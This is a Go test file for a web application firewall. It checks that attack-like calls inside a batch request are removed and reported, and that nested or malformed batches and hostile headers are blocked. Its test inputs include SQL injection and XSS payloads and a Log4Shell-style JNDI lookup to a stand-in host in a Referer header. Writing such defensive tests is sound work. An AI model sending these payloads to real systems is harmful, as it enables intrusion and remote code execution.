package waf

import (
	"encoding/json"
	"io"
	"net/http"
	"testing"
)

// A call of a batch that looks like an attack is taken out and named, with what to answer it; the others come through as they were.
func TestBatchIsSifted(t *testing.T) {
	t.Parallel()
	const calls = `[{"method":"GET","path":"/cart"},{"method":"GET","path":"/products?q=1%27+OR+%271%27%3D%271"},{"method":"POST","path":"/cart/add","body":{"product_id":1,"a":"<b>"}},` +
		`{"method":"POST","path":"/users","body":{"name":"<script>alert(1)</script>"}}]`
	var left struct{ Requests []json.RawMessage }
	var named []string
	h := newWAF(t, Options{}).Wrap(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		body, err := io.ReadAll(r.Body)
		if err != nil || int64(len(body)) != r.ContentLength || json.Unmarshal(body, &left) != nil {
			t.Errorf("%v: %s", err, body)
		}
		named = r.Header[HeaderRefused]
	}))
	r, _ := typical(http.MethodPost, "/batch", `{"requests":`+calls+`}`)
	if rec := serve(h, r); rec.Code != http.StatusOK {
		t.Fatalf("%d %s", rec.Code, rec.Body)
	}
	var asked []json.RawMessage
	if err := json.Unmarshal([]byte(calls), &asked); err != nil || len(left.Requests) != len(asked) || len(named) != 1 {
		t.Fatalf("%v, left %s, named %v", err, left.Requests, named)
	}
	for i, want := range asked {
		if i%2 == 1 {
			want = emptyCall
		}
		if string(left.Requests[i]) != string(want) {
			t.Errorf("call %d: %s", i, left.Requests[i])
		}
	}
	var refused struct {
		Calls   []int
		Problem problem
	}
	id := r.Header.Get("X-Request-Id")
	if err := json.Unmarshal([]byte(named[0]), &refused); err != nil || len(refused.Calls) != 2 || refused.Calls[0] != 1 || refused.Calls[1] != 3 ||
		refused.Problem.Status != http.StatusForbidden || refused.Problem.Type != "/problems/request-blocked" || refused.Problem.RequestID != id || refused.Problem.Instance != "urn:request:"+id {
		t.Errorf("%v %s", err, named[0])
	}
}

// What cannot be taken apart into calls is no way around the rules, and neither are the headers, which are those of all calls.
func TestBatchIsNoHole(t *testing.T) {
	t.Parallel()
	const evil = `{"method":"GET","path":"/products?q=<script>alert(1)</script>"}`
	h := newWAF(t, Options{}).Wrap(echo)
	for body, want := range map[string]int{
		`{"requests":[` + evil: http.StatusBadRequest, `{"requests":[{"method":"GET","path":"/cart"}]} x`: http.StatusBadRequest,
		`{"requests":[` + evil + `],"more":1}`: http.StatusForbidden, `{"requests":[` + evil + `],"requests":[]}`: http.StatusForbidden,
		`{"requests":[{"method":"POST","path":"/batch","body":{"requests":[` + evil + `]}},"<script>alert(1)</script>"]}`: http.StatusForbidden,
	} {
		r, _ := typical(http.MethodPost, "/batch", body)
		if rec := serve(h, r); rec.Code != want {
			t.Errorf("%s: %d", body, rec.Code)
		}
	}
	r, _ := typical(http.MethodPost, "/batch", `{"requests":[{"method":"GET","path":"/cart"}]}`)
	r.Header.Set("Referer", "${jndi:ldap://evil.example/a}")
	if rec := serve(h, r); rec.Code != http.StatusForbidden {
		t.Errorf("headers: %d", rec.Code)
	}
	nested, _ := typical(http.MethodPost, "/batch", `{"requests":[{"method":"POST","path":"/batch","body":{"requests":[`+evil+`]}},{"method":"GET","path":"/cart"}]}`)
	if rec := serve(h, nested); nested.Header.Get(HeaderRefused) == "" {
		t.Errorf("nested: %d %s", rec.Code, rec.Body)
	}
}
